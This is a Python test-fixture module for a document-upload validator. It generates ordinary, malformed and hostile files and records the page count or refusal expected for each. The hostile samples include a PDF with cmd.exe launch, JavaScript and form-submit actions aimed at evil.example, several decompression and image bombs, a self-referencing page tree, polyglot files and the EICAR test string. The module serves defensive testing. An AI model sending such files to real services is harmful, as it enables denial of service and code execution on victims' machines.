"""Files that people send by mistake and others on purpose, made by code, with what becomes of each.

`OK` names the number of pages; everything else is the refusal.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import cache

from fpdf import FPDF
from fpdf.enums import EncryptionMethod
from PIL import Image, ImageDraw, PngImagePlugin

from tests.documents.applications import heic

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
A4 = b"/MediaBox[0 0 595 842]"
HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
TEXT = b"BT /F1 24 Tf 60 700 Td (Mietbescheinigung 412,50 EUR) Tj ET"


@dataclass(frozen=True)
class Case:
    """A file, and what becomes of it: its number of pages, or one of several refusals."""

    content: Callable[[], bytes]
    pages: int = 0
    refusals: Sequence[str] = ()


def drawing(width: int = 1200, height: int = 900) -> Image.Image:
    """Something that looks like a paper: lines on white, a red corner at the top left."""
    picture = Image.new("RGB", (width, height), "white")
    pen = ImageDraw.Draw(picture)
    for at in range(0, height, 20):
        pen.line([(20, at), (width - 20, at + 7)], fill="black", width=2)
    pen.rectangle((0, 0, width // 6, height // 6), fill="red")
    return picture


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    """The picture as a file."""
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


@cache
def jpeg() -> bytes:
    """A photo of a paper."""
    return saved(drawing(), "JPEG", quality=80)


def raw_pdf(objects: Sequence[bytes], *, root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\n" % (len(objects) + 1, root, trailer)
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(data), data)


def one_page(
    *more: bytes,
    contents: bytes = TEXT,
    page: bytes = b"",
    root: bytes = b"",
    box: bytes = A4,
    resources: bytes = b"",
) -> bytes:
    """A PDF of one page; `more` are objects from number 6 on."""
    fonts = b"/Font<</F1 5 0 R>>"
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R%s/Contents 4 0 R/Resources<<%s%s>>%s>>"
            % (box, fonts, resources, page),
            stream(contents),
            HELVETICA,
            *more,
        ]
    )


def printed(pages: int = 1, **protection: str) -> bytes:
    """A PDF as programs write it; with a password where one is named."""
    pdf = FPDF()
    pdf.set_font("helvetica", size=20)
    for number in range(pages):
        pdf.add_page()
        pdf.cell(text=f"Seite {number + 1}")
    if protection:
        pdf.set_encryption(
            owner_password="of the owner",
            user_password=protection.get("user", ""),
            encryption_method=EncryptionMethod.AES_256,
        )
    return bytes(pdf.output())


def with_attachment(content: bytes) -> bytes:
    """A PDF that carries another file."""
    pdf = FPDF()
    pdf.add_page()
    pdf.embed_file(basename="more.exe", bytes=content)
    return bytes(pdf.output())


def form(value: str, *, appearance: bool) -> bytes:
    """A form whose field was filled in by a program that drew it, or left that to the reader."""
    text = b"\xfe\xff" + value.encode("utf-16-be")
    shown = b"/AP<</N 7 0 R>>" if appearance else b""
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V<%s>/DA(/F1 14 Tf 0 g)"
        b"/Rect[60 600 500 630]/F 4/P 3 0 R%s>>" % (text.hex().encode(), shown)
    )
    drawn = stream(
        b"/Tx BMC BT /F1 14 Tf 5 8 Td (drawn) Tj ET EMC",
        b"/Type/XObject/Subtype/Form/BBox[0 0 440 30]/Resources<</Font<</F1 5 0 R>>>>",
    )
    needed = b"false" if appearance else b"true"
    root = (
        b"/AcroForm<</Fields[6 0 R]/NeedAppearances %s/DR<</Font<</F1 5 0 R>>>>"
        b"/DA(/F1 0 Tf 0 g)>>" % needed
    )
    return one_page(field, drawn, page=b"/Annots[6 0 R]", root=root)


def active() -> bytes:
    """A PDF full of what runs: 18 names that no page needs."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    return one_page(
        b"<</Type/Annot/Subtype/Link/Rect[9 9 99 99]/A<</S/Launch/F(cmd.exe)>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[9 9 99 99]/A<</S/URI/URI(http://evil.example/)>>>>",
        b"<</Type/Annot/Subtype/Movie/Rect[9 9 99 99]/Movie<</F(x.avi)>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[9 9 99 99]/A<</S/SubmitForm/F(http://evil.example/)>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[9 9 99 99]/A<</S/GoToR/F(//evil.example/a.pdf)>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[9 9 99 99]/A<</S/ImportData/F(x.fdf)>>>>",
        page=b"/Annots[6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R]/AA<</O%s>>" % script,
        root=b"/OpenAction%s/AA<</WC%s>>/Names<</JavaScript<</Names[(a)%s]>>>>" % ((script,) * 3),
    )


def page_bomb(layers: int, size: int) -> bytes:
    """A page of 2 kB that is `size` blanks when it is unpacked."""
    packed = b" " * size
    for _layer in range(layers):
        packed = zlib.compress(packed, 9)
    filters = b"/Filter[%s]" % (b"/FlateDecode" * layers)
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R%s/Contents 4 0 R/Resources<<>>>>" % A4,
            stream(packed, filters),
        ]
    )


def image_bomb(side: int) -> bytes:
    """A page with a picture of `side` by `side` pixels of black."""
    head = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode" % (side, side)
    )
    return one_page(
        stream(zlib.compress(b"\0" * side * side, 9), head),
        contents=b"q 595 0 0 842 0 0 cm /I Do Q",
        resources=b"/XObject<</I 6 0 R>>",
    )


def nested_forms() -> bytes:
    """Ten forms that each draw the next one ten times: 10^10 rectangles."""
    layers = [
        stream(
            b"/F Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>"
            % (n + 1),
        )
        for n in range(6, 16)
    ]
    last = stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return one_page(*layers, last, contents=b"/F Do " * 10, resources=b"/XObject<</F 6 0 R>>")


def loop() -> bytes:
    """A tree of pages that is its own branch."""
    return raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"])


def png_bomb(side: int) -> bytes:
    """A picture of one colour, small on disk."""
    return saved(Image.new("1", (side, side)), "PNG")


def png_with_text_bomb() -> bytes:
    """A small picture with 400 MB of compressed notes."""
    picture, notes = drawing(200, 150), PngImagePlugin.PngInfo()
    notes.add(b"zTXt", b"k\0\0" + zlib.compress(b"a" * 400_000_000, 9))
    return saved(picture, "PNG", pnginfo=notes)


def png_of_false_size() -> bytes:
    """A picture that says to be larger than any."""
    content = bytearray(saved(drawing(200, 150), "PNG"))
    content[16:24] = struct.pack(">II", 2**31 - 1, 2**31 - 1)
    content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    return bytes(content)


def rotated(orientation: int) -> bytes:
    """A photo whose metadata say how it was held."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return saved(drawing(), "JPEG", exif=exif.tobytes())


def located() -> bytes:
    """A photo that says where it was taken, by whom and with what."""
    exif = Image.Exif()
    exif[0x010F] = "Kanarienvogel"
    exif.get_ifd(0x8825)[2] = (52.0, 8.0, 0.0)
    return saved(drawing(), "JPEG", exif=exif.tobytes(), comment=b"Kanarienvogel")


def broken_exif() -> bytes:
    """A photo whose metadata are garbage."""
    return saved(drawing(), "JPEG", exif=b"Exif\0\0MM\0*" + b"\xff" * 40)


def clear() -> bytes:
    """A scan that is black where it is clear, so that plain reading makes it all black."""
    ink = Image.new("L", (800, 600), 0)
    pen = ImageDraw.Draw(ink)
    for at in range(0, 600, 20):
        pen.line([(20, at), (780, at + 7)], fill=255, width=2)
    picture = Image.new("RGBA", (800, 600), (0, 0, 0, 0))
    picture.putalpha(ink)
    return saved(picture, "PNG")


def sixteen_bits() -> bytes:
    """A scan of 16 bits a channel."""
    grey = drawing(800, 600).convert("I").point(lambda value: value * 256)
    return saved(grey.convert("I;16"), "PNG")


UNREADABLE = ("unreadable", "not_whole")
HEAVY = ("too_heavy", "too_large", "unreadable")
CASES: dict[str, Case] = {
    # what people send by mistake
    "nothing": Case(lambda: b"", refusals=["empty"]),
    "zeros": Case(lambda: bytes(5000), refusals=["empty"]),
    "a text": Case(lambda: b"Ich beantrage", refusals=["unknown_kind"]),
    "a Word file": Case(
        lambda: b"PK\x03\x04" + b"word/document.xml" * 50, refusals=["unknown_kind"]
    ),
    "a page of an error, kept as paper": Case(
        lambda: b"<!doctype html><title>502</title>", refusals=["unknown_kind"]
    ),
    "a GIF": Case(lambda: saved(drawing(), "GIF"), refusals=["unknown_kind"]),
    "a TIFF": Case(lambda: saved(drawing(), "TIFF"), refusals=["unknown_kind"]),
    "a WebP": Case(lambda: saved(drawing(), "WEBP"), refusals=["unknown_kind"]),
    "a PNG that moves": Case(
        lambda: saved(drawing(), "PNG", save_all=True, append_images=[drawing(1600, 1200)]), pages=1
    ),
    "an SVG with a script": Case(
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
        refusals=["unknown_kind"],
    ),
    "a JPEG": Case(jpeg, pages=1),
    "a JPEG that was cut": Case(lambda: jpeg()[: len(jpeg()) // 2], refusals=["not_whole"]),
    "a JPEG of CMYK": Case(lambda: saved(drawing().convert("CMYK"), "JPEG"), pages=1),
    "a JPEG that comes in steps": Case(lambda: saved(drawing(), "JPEG", progressive=True), pages=1),
    "two pictures in one (MPO)": Case(
        lambda: saved(drawing(), "MPO", save_all=True, append_images=[drawing()]), pages=1
    ),
    "orientation 0": Case(lambda: rotated(0), pages=1),
    "orientation 6": Case(lambda: rotated(6), pages=1),
    "broken metadata": Case(broken_exif, pages=1),
    "where it was taken": Case(located, pages=1),
    "one colour": Case(
        lambda: saved(Image.new("RGB", (900, 900)), "JPEG"), refusals=["one_colour"]
    ),
    "an icon": Case(lambda: saved(drawing(16, 16), "PNG"), refusals=["unreadable"]),
    "a clear PNG": Case(clear, pages=1),
    "a PNG of 16 bits": Case(sixteen_bits, pages=1),
    "a PNG of a palette": Case(lambda: saved(drawing().convert("P"), "PNG"), pages=1),
    "a PNG that was cut": Case(lambda: saved(drawing(), "PNG")[:-1000], refusals=["not_whole"]),
    "a HEIC": Case(lambda: heic.PLAIN, pages=1),
    "a HEIC, rotated": Case(lambda: heic.ROTATED, pages=1),
    "a HEIC, clear in parts": Case(lambda: heic.ALPHA, pages=1),
    "a HEIC of two": Case(lambda: heic.TWO, pages=1),
    "a HEIC that was cut": Case(lambda: heic.PLAIN[:700], refusals=UNREADABLE),
    "a PDF": Case(lambda: printed(3), pages=3),
    "a PDF that was cut": Case(lambda: printed(3)[:900], refusals=["not_whole"]),
    "a PDF after a page of mail": Case(lambda: b"x" * 300 + one_page(), pages=1),
    "a PDF of 101 pages": Case(lambda: printed(101), refusals=["too_many_pages"]),
    "a PDF that lies on its side": Case(
        lambda: one_page(box=b"/Rotate 90/MediaBox[0 0 595 842]"), pages=1
    ),
    "a PDF with a page at an impossible angle": Case(
        lambda: one_page(box=b"/Rotate 37/MediaBox[0 0 595 842]"), pages=1
    ),
    "a PDF without pages": Case(
        lambda: raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>"]),
        refusals=["unreadable"],
    ),
    "a PDF that the owner locked": Case(lambda: printed(1, owner="yes"), pages=1),
    "a PDF with a password": Case(lambda: printed(1, user="geheim"), refusals=["password"]),
    "a form with its appearance": Case(lambda: form("Müller", appearance=True), pages=1),
    "a form without, in Latin": Case(lambda: form("Müller, 412,50 €", appearance=False), pages=1),
    "a form without, in Arabic": Case(
        lambda: form("محمد", appearance=False), refusals=["form_not_drawn"]
    ),
    "a form without, in Vietnamese": Case(
        lambda: form("Nguyễn", appearance=False), refusals=["form_not_drawn"]
    ),
    "a form with its appearance, in Arabic": Case(lambda: form("محمد", appearance=True), pages=1),
    "a form of XFA": Case(
        lambda: one_page(
            stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
            root=b"/NeedsRendering true/AcroForm<</Fields[]/XFA 6 0 R>>",
        ),
        refusals=["form_xfa"],
    ),
    "a PDF that carries a file": Case(lambda: with_attachment(b"MZ"), refusals=["contains_files"]),
    # what others send on purpose
    "scripts": Case(active, pages=1),
    "a JPEG with an archive behind": Case(lambda: jpeg() + b"PK\x03\x04evil" + EICAR, pages=1),
    "a PDF with an archive behind": Case(lambda: one_page() + b"PK\x03\x04evil", pages=1),
    "a picture that is a PDF as well": Case(
        lambda: jpeg()[:2] + b"\xff\xfe\x00\x20%PDF-1.7\n1 0 obj<<>>endobj  %%EOF" + jpeg()[2:],
        pages=1,
    ),
    "garbage that begins like a JPEG": Case(
        lambda: b"\xff\xd8\xff\xe0" + b"A" * 999, refusals=UNREADABLE
    ),
    "garbage that begins like a PDF": Case(
        lambda: b"%PDF-1.7\n" + b"A" * 999 + b"%%EOF", refusals=["unreadable"]
    ),
    "200 MB of blanks": Case(lambda: page_bomb(1, 200_000_000), pages=1, refusals=HEAVY),
    "1 GB of blanks, packed twice": Case(
        lambda: page_bomb(2, 1_000_000_000), pages=1, refusals=HEAVY
    ),
    "a picture of 400 Mpx in a page": Case(lambda: image_bomb(20_000), pages=1, refusals=HEAVY),
    "10^10 rectangles": Case(nested_forms, pages=1, refusals=HEAVY),
    "a tree without end": Case(loop, refusals=["unreadable", "too_heavy"]),
    "an endless page": Case(lambda: one_page(box=b"/MediaBox[0 0 595 9000000]"), refusals=HEAVY),
    "a page of no size": Case(
        lambda: one_page(box=b"/MediaBox[0 0 0 0]"), pages=1, refusals=["unreadable"]
    ),
    "a PNG of 100 Mpx": Case(lambda: png_bomb(10_000), refusals=["too_large"]),
    "a PNG that lies": Case(png_of_false_size, refusals=["too_large", "unreadable"]),
    "400 MB of notes in a PNG": Case(png_with_text_bomb, pages=1, refusals=HEAVY),
    "a JPEG of 225 Mpx": Case(
        lambda: saved(Image.new("L", (15_000, 15_000)), "JPEG"), refusals=["too_large"]
    ),
}
